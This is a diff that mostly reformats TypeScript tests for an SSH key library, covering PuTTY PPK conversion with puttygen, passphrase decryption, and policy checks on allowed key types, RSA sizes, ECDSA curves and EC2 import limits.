-        const back = spawnSync("puttygen", [f, "-O", "private-openssh-new", "-o", out, "--old-passphrase", passFile, "--new-passphrase", empty], { encoding: "utf8", input: "" });
+        const back = spawnSync(
+            "puttygen",
+            [f, "-O", "private-openssh-new", "-o", out, "--old-passphrase", passFile, "--new-passphrase", empty],
+            { encoding: "utf8", input: "" },
+        );
         assert.strictEqual(back.status, 0, back.stderr);
         assert.strictEqual(sshKeygenFingerprint(out), rsa3072.fingerprint);
         // Our reader: public part without the passphrase, the key with it, a KeyError with a wrong one.
@@ -489,7 +804,10 @@ describe("keys: PuTTY PPK v3", function () {
         assert.strictEqual(info.encrypted, true);
         assert.strictEqual(info.fingerprint, rsa3072.fingerprint);
         assert.strictEqual(parseKey(await decryptPpk(ppk, "ppk pass phrase")).fingerprint, rsa3072.fingerprint);
-        await assert.rejects(decryptPpk(ppk, "wrong", "enc.ppk"), (e: unknown) => e instanceof KeyError && /enc.ppk: the passphrase is wrong/.test(e.message));
+        await assert.rejects(
+            decryptPpk(ppk, "wrong", "enc.ppk"),
+            (e: unknown) => e instanceof KeyError && /enc.ppk: the passphrase is wrong/.test(e.message),
+        );
     });
 
     it("converts an encrypted OpenSSH key to an encrypted .ppk with the same passphrase", async function () {
@@ -500,10 +818,32 @@ describe("keys: PuTTY PPK v3", function () {
     });
 
     it("reads keys puttygen writes (v3 and v2, with and without passphrase)", async function () {
-        for (const [version, pass] of [["3", false], ["3", true], ["2", false], ["2", true]] as const) {
+        for (const [version, pass] of [
+            ["3", false],
+            ["3", true],
+            ["2", false],
+            ["2", true],
+        ] as const) {
             const f = path.join(dir, `pg-${version}-${pass}.ppk`);
             const empty = write(dir, "empty", "");
-            const r = spawnSync("puttygen", ["-t", "ecdsa", "-b", "256", "-C", "pg", "-o", f, "--new-passphrase", pass ? passFile : empty, "--ppk-param", `version=${version}`], { encoding: "utf8", input: "" });
+            const r = spawnSync(
+                "puttygen",
+                [
+                    "-t",
+                    "ecdsa",
+                    "-b",
+                    "256",
+                    "-C",
+                    "pg",
+                    "-o",
+                    f,
+                    "--new-passphrase",
+                    pass ? passFile : empty,
+                    "--ppk-param",
+                    `version=${version}`,
+                ],
+                { encoding: "utf8", input: "" },
+            );
             assert.strictEqual(r.status, 0, r.stderr);
             const want = puttygenFingerprint(f, pass ? passFile : undefined);
             const text = fs.readFileSync(f, "utf8");
@@ -529,7 +869,14 @@ describe("keys: PuTTY PPK v3", function () {
 
 describe("keys: rules and configuration", function () {
     it("allows the defaults: ed25519, ecdsa p256/384/521, rsa >= 3072", () => {
-        for (const s of [{ type: "ed25519" }, { type: "ecdsa", curve: "nistp256" }, { type: "ecdsa", curve: "P-384" }, { type: "ecdsa", curve: "secp521r1" }, { type: "rsa", bits: 3072 }, { type: "RSA", bits: 8192 }]) {
+        for (const s of [
+            { type: "ed25519" },
+            { type: "ecdsa", curve: "nistp256" },
+            { type: "ecdsa", curve: "P-384" },
+            { type: "ecdsa", curve: "secp521r1" },
+            { type: "rsa", bits: 3072 },
+            { type: "RSA", bits: 8192 },
+        ]) {
             assert.deepStrictEqual(judgeKeySpec(s), [], JSON.stringify(s));
         }
         assert.deepStrictEqual(DEFAULT_KEY_RULES.allowedTypes, ["ed25519", "ecdsa", "rsa"]);
@@ -538,11 +885,28 @@ describe("keys: rules and configuration", function () {
     it("ec2ImportRsaBits is a minimum among the sizes EC2 imports: 4096 allows 4096 only, 2048 allows 2048 and 4096", () => {
         const ec2 = { ec2Import: true };
         assert.deepStrictEqual(judgeKeySpec({ type: "rsa", bits: 4096 }, undefined, ec2), []);
-        assert.match(judgeKeySpec({ type: "rsa", bits: 2048 }, undefined, ec2).join(), /needs rsa of exactly 4096 bits/);
-        assert.deepStrictEqual(judgeKeySpec({ type: "rsa", bits: 2048 }, { ec2ImportRsaBits: 2048, minRsaBits: 2048 }, ec2), []);
-        assert.deepStrictEqual(judgeKeySpec({ type: "rsa", bits: 4096 }, { ec2ImportRsaBits: 2048 }, ec2), [], "a generated rsa-4096 key passes a 2048 minimum");
-        assert.match(judgeKeySpec({ type: "rsa", bits: 3072 }, { ec2ImportRsaBits: 2048 }, ec2).join(), /needs rsa of 2048 or 4096 bits/, "EC2 cannot import 3072");
-        assert.match(judgeKeySpec({ type: "rsa", bits: 1024 }, { ec2ImportRsaBits: 2048 }, ec2).join(), /not allowed for EC2 import/);
+        assert.match(
+            judgeKeySpec({ type: "rsa", bits: 2048 }, undefined, ec2).join(),
+            /needs rsa of exactly 4096 bits/,
+        );
+        assert.deepStrictEqual(
+            judgeKeySpec({ type: "rsa", bits: 2048 }, { ec2ImportRsaBits: 2048, minRsaBits: 2048 }, ec2),
+            [],
+        );
+        assert.deepStrictEqual(
+            judgeKeySpec({ type: "rsa", bits: 4096 }, { ec2ImportRsaBits: 2048 }, ec2),
+            [],
+            "a generated rsa-4096 key passes a 2048 minimum",
+        );
+        assert.match(
+            judgeKeySpec({ type: "rsa", bits: 3072 }, { ec2ImportRsaBits: 2048 }, ec2).join(),
+            /needs rsa of 2048 or 4096 bits/,
+            "EC2 cannot import 3072",
+        );
+        assert.match(
+            judgeKeySpec({ type: "rsa", bits: 1024 }, { ec2ImportRsaBits: 2048 }, ec2).join(),
+            /not allowed for EC2 import/,
+        );
     });
 
     it("judges specs the way tls.PrivateKey and aws describe keys", () => {
@@ -550,7 +914,10 @@ describe("keys: rules and configuration", function () {
         assert.deepStrictEqual(judgeKeySpec({ type: "ecdsa", bits: 384 }), []);
         assert.match(judgeKeySpec({ type: "ECDSA", curve: "P224" }).join(), /curve nistp224 is not allowed/);
         assert.match(judgeKeySpec({ type: "ssh-dss", bits: 1024 }).join(), /dsa keys are not allowed/);
-        assert.match(judgeKeySpec({ type: "RSA", bits: 2048 }, undefined, { label: "tls.PrivateKey k" }).join(), /^tls.PrivateKey k: rsa-2048 is too small/);
+        assert.match(
+            judgeKeySpec({ type: "RSA", bits: 2048 }, undefined, { label: "tls.PrivateKey k" }).join(),
+            /^tls.PrivateKey k: rsa-2048 is too small/,
+        );
     });
 
     it("refuses an rsa or ecdsa spec whose size is not given", () => {
@@ -561,8 +928,14 @@ describe("keys: rules and configuration", function () {
     it("EC2 import: ed25519 and rsa-4096 only", () => {
         assert.deepStrictEqual(judgeKeySpec({ type: "ed25519" }, undefined, { ec2Import: true }), []);
         assert.deepStrictEqual(judgeKeySpec({ type: "rsa", bits: 4096 }, undefined, { ec2Import: true }), []);
-        assert.match(judgeKeySpec({ type: "rsa", bits: 8192 }, undefined, { ec2Import: true }).join(), /rsa-8192 is not allowed for EC2 import/);
-        assert.match(judgeKeySpec({ type: "ecdsa", curve: "nistp256" }, undefined, { ec2Import: true }).join(), /EC2 can import only rsa and ed25519/);
+        assert.match(
+            judgeKeySpec({ type: "rsa", bits: 8192 }, undefined, { ec2Import: true }).join(),
+            /rsa-8192 is not allowed for EC2 import/,
+        );
+        assert.match(
+            judgeKeySpec({ type: "ecdsa", curve: "nistp256" }, undefined, { ec2Import: true }).join(),
+            /EC2 can import only rsa and ed25519/,
+        );
     });
 
     it("a service account's private key may lack a passphrase; a person's may not", () => {
@@ -575,12 +948,25 @@ describe("keys: rules and configuration", function () {
 
     it("reads the policy pack config and tightens the rules", () => {
         const rules = keyRulesFromPolicyConfig({
-            "ssh-key-algorithm": { enforcementLevel: "mandatory", allowedTypes: ["ssh-ed25519", "rsa"], minRsaBits: 4096, allowedCurves: ["P-384"] },
+            "ssh-key-algorithm": {
+                enforcementLevel: "mandatory",
+                allowedTypes: ["ssh-ed25519", "rsa"],
+                minRsaBits: 4096,
+                allowedCurves: ["P-384"],
+            },
             "ssh-key-passphrase": { requirePassphrase: false },
             "other-rule": { whatever: 1 },
         });
-        assert.deepStrictEqual(rules, { allowedTypes: ["ed25519", "rsa"], minRsaBits: 4096, allowedCurves: ["nistp384"], requirePassphrase: false });
-        assert.match(judgeKey(parsePublicKey(rsa3072.publicKey), rules).join(), /rsa-3072 is too small.*expected ed25519 or rsa of at least 4096 bits/);
+        assert.deepStrictEqual(rules, {
+            allowedTypes: ["ed25519", "rsa"],
+            minRsaBits: 4096,
+            allowedCurves: ["nistp384"],
+            requirePassphrase: false,
+        });
+        assert.match(
+            judgeKey(parsePublicKey(rsa3072.publicKey), rules).join(),
+            /rsa-3072 is too small.*expected ed25519 or rsa of at least 4096 bits/,
+        );
         assert.match(judgeKey(parsePublicKey(ec256.publicKey), rules).join(), /ecdsa nistp256 keys are not allowed/);
         assert.deepStrictEqual(keyRulesFromPolicyConfig({}), {});
         assert.deepStrictEqual(keyRulesFromPolicyConfig({ "ssh-key-algorithm": "advisory" }), {});
@@ -588,40 +974,96 @@ describe("keys: rules and configuration", function () {
 
     it("refuses a bad policy config with the field named", () => {
         assert.throws(() => keyRulesFromPolicyConfig([]), /must be a JSON object/);
-        assert.throws(() => keyRulesFromPolicyConfig({ "ssh-key-algorithm": { minRsaBits: "big" } }), /'ssh-key-algorithm.minRsaBits' must be an integer/);
-        assert.throws(() => keyRulesFromPolicyConfig({ "ssh-key-algorithm": { allowedTypes: "rsa" } }), /'ssh-key-algorithm.allowedTypes' must be an array of strings/);
-        assert.throws(() => keyRulesFromPolicyConfig({ "ssh-key-algorithm": { ec2ImportRsaBits: 3072 } }), /'ssh-key-algorithm.ec2ImportRsaBits' must be 2048 or 4096: the RSA sizes EC2 imports \(1024, 2048, 4096\)/);
-        assert.throws(() => keyRulesFromPolicyConfig({ "ssh-key-passphrase": { requirePassphrase: "yes" } }), /requirePassphrase' must be true or false/);
+        assert.throws(
+            () => keyRulesFromPolicyConfig({ "ssh-key-algorithm": { minRsaBits: "big" } }),
+            /'ssh-key-algorithm.minRsaBits' must be an integer/,
+        );
+        assert.throws(
+            () => keyRulesFromPolicyConfig({ "ssh-key-algorithm": { allowedTypes: "rsa" } }),
+            /'ssh-key-algorithm.allowedTypes' must be an array of strings/,
+        );
+        assert.throws(
+            () => keyRulesFromPolicyConfig({ "ssh-key-algorithm": { ec2ImportRsaBits: 3072 } }),
+            /'ssh-key-algorithm.ec2ImportRsaBits' must be 2048 or 4096: the RSA sizes EC2 imports \(1024, 2048, 4096\)/,
+        );
+        assert.throws(
+            () => keyRulesFromPolicyConfig({ "ssh-key-passphrase": { requirePassphrase: "yes" } }),
+            /requirePassphrase' must be true or false/,
+        );
     });
 
     it("a config cannot re-allow what is never allowed: the field and what it accepts are named", () => {
         const bad: [Record<string, unknown>, RegExp][] = [
-            [{ allowedTypes: ["ed25519", "dsa"] }, /'ssh-key-algorithm.allowedTypes' lists "dsa", which is never allowed \(DSA .*\); accepted: any of ed25519, ecdsa, rsa/],
+            [
+                { allowedTypes: ["ed25519", "dsa"] },
+                /'ssh-key-algorithm.allowedTypes' lists "dsa", which is never allowed \(DSA .*\); accepted: any of ed25519, ecdsa, rsa/,
+            ],
             [{ allowedTypes: ["ssh-dss"] }, /'ssh-key-algorithm.allowedTypes' lists "ssh-dss", which is never allowed/],
-            [{ allowedTypes: ["rsa1"] }, /'ssh-key-algorithm.allowedTypes' lists "rsa1", which is never allowed \(SSH protocol 1/],
-            [{ allowedTypes: ["rsa", "blowfish"] }, /'ssh-key-algorithm.allowedTypes' lists "blowfish", which is not a key type the rules know; accepted: any of ed25519, ecdsa, rsa/],
-            [{ allowedTypes: ["sk-ssh-ed25519@openssh.com"] }, /lists "sk-ssh-ed25519@openssh.com", which is not a key type/],
-            [{ allowedCurves: ["nistp256", "nistp224"] }, /'ssh-key-algorithm.allowedCurves' lists "nistp224", which is never allowed \(P-224 .*\); accepted: any of nistp256, nistp384, nistp521/],
+            [
+                { allowedTypes: ["rsa1"] },
+                /'ssh-key-algorithm.allowedTypes' lists "rsa1", which is never allowed \(SSH protocol 1/,
+            ],
+            [
+                { allowedTypes: ["rsa", "blowfish"] },
+                /'ssh-key-algorithm.allowedTypes' lists "blowfish", which is not a key type the rules know; accepted: any of ed25519, ecdsa, rsa/,
+            ],
+            [
+                { allowedTypes: ["sk-ssh-ed25519@openssh.com"] },
+                /lists "sk-ssh-ed25519@openssh.com", which is not a key type/,
+            ],
+            [
+                { allowedCurves: ["nistp256", "nistp224"] },
+                /'ssh-key-algorithm.allowedCurves' lists "nistp224", which is never allowed \(P-224 .*\); accepted: any of nistp256, nistp384, nistp521/,
+            ],
             [{ allowedCurves: ["P-224"] }, /lists "P-224", which is never allowed/],
-            [{ allowedCurves: ["curve25519"] }, /'ssh-key-algorithm.allowedCurves' lists "curve25519", which is not an ecdsa curve the rules know/],
-            [{ minRsaBits: 1024 }, /'ssh-key-algorithm.minRsaBits' must be an integer between 2048 and 16384 \(RSA-2048 is the weakest NIST accepts through 2030\); got 1024/],
+            [
+                { allowedCurves: ["curve25519"] },
+                /'ssh-key-algorithm.allowedCurves' lists "curve25519", which is not an ecdsa curve the rules know/,
+            ],
+            [
+                { minRsaBits: 1024 },
+                /'ssh-key-algorithm.minRsaBits' must be an integer between 2048 and 16384 \(RSA-2048 is the weakest NIST accepts through 2030\); got 1024/,
+            ],
             [{ minRsaBits: 2047 }, /'ssh-key-algorithm.minRsaBits' must be an integer between 2048/],
             [{ ec2ImportRsaBits: 1024 }, /'ssh-key-algorithm.ec2ImportRsaBits' must be 2048 or 4096.*got 1024/],
         ];
-        for (const [alg, re] of bad) assert.throws(() => keyRulesFromPolicyConfig({ "ssh-key-algorithm": alg }), re, JSON.stringify(alg));
+        for (const [alg, re] of bad)
+            assert.throws(() => keyRulesFromPolicyConfig({ "ssh-key-algorithm": alg }), re, JSON.stringify(alg));
         // the floor and both EC2 sizes above it are fine
-        assert.deepStrictEqual(keyRulesFromPolicyConfig({ "ssh-key-algorithm": { minRsaBits: 2048, ec2ImportRsaBits: 2048 } }), { minRsaBits: 2048, ec2ImportRsaBits: 2048 });
-        assert.deepStrictEqual(keyRulesFromPolicyConfig({ "ssh-key-algorithm": { ec2ImportRsaBits: 4096 } }), { ec2ImportRsaBits: 4096 });
+        assert.deepStrictEqual(
+            keyRulesFromPolicyConfig({ "ssh-key-algorithm": { minRsaBits: 2048, ec2ImportRsaBits: 2048 } }),
+            { minRsaBits: 2048, ec2ImportRsaBits: 2048 },
+        );
+        assert.deepStrictEqual(keyRulesFromPolicyConfig({ "ssh-key-algorithm": { ec2ImportRsaBits: 4096 } }), {
+            ec2ImportRsaBits: 4096,
+        });
     });
 
     it("judges dsa, rsa1 and P-224 as never allowed whatever the rules passed in say", () => {
-        const loose = { allowedTypes: ["ed25519", "ecdsa", "rsa", "dsa", "rsa1", "sk-ed25519"], allowedCurves: ["nistp224", "nistp256"], minRsaBits: 512, ec2ImportRsaBits: 1024 };
+        const loose = {
+            allowedTypes: ["ed25519", "ecdsa", "rsa", "dsa", "rsa1", "sk-ed25519"],
+            allowedCurves: ["nistp224", "nistp256"],
+            minRsaBits: 512,
+            ec2ImportRsaBits: 1024,
+        };
         assert.match(judgeKeySpec({ type: "ssh-dss", bits: 1024 }, loose).join(), /dsa-?.* keys are not allowed \(DSA/);
-        assert.match(judgeKeySpec({ type: "rsa1", bits: 2048 }, loose).join(), /rsa1.* keys are not allowed \(SSH protocol 1/);
-        assert.match(judgeKeySpec({ type: "ecdsa", curve: "P-224" }, loose).join(), /ecdsa curve nistp224 is not allowed \(P-224/);
+        assert.match(
+            judgeKeySpec({ type: "rsa1", bits: 2048 }, loose).join(),
+            /rsa1.* keys are not allowed \(SSH protocol 1/,
+        );
+        assert.match(
+            judgeKeySpec({ type: "ecdsa", curve: "P-224" }, loose).join(),
+            /ecdsa curve nistp224 is not allowed \(P-224/,
+        );
         assert.match(judgeKeySpec({ type: "sk-ed25519" }, loose).join(), /sk-ed25519 keys are not allowed/);
-        assert.match(judgeKeySpec({ type: "rsa", bits: 1024 }, loose).join(), /rsa-1024 is too small \(the rules require at least 2048 bits\)/);
-        assert.match(judgeKeySpec({ type: "rsa", bits: 1024 }, loose, { ec2Import: true }).join(), /rsa-1024 is not allowed for EC2 import/);
+        assert.match(
+            judgeKeySpec({ type: "rsa", bits: 1024 }, loose).join(),
+            /rsa-1024 is too small \(the rules require at least 2048 bits\)/,
+        );
+        assert.match(
+            judgeKeySpec({ type: "rsa", bits: 1024 }, loose, { ec2Import: true }).join(),
+            /rsa-1024 is not allowed for EC2 import/,
+        );
         assert.deepStrictEqual(judgeKeySpec({ type: "rsa", bits: 2048 }, loose), []);
         assert.deepStrictEqual(judgeKeySpec({ type: "ecdsa", curve: "nistp256" }, loose), []);
     });
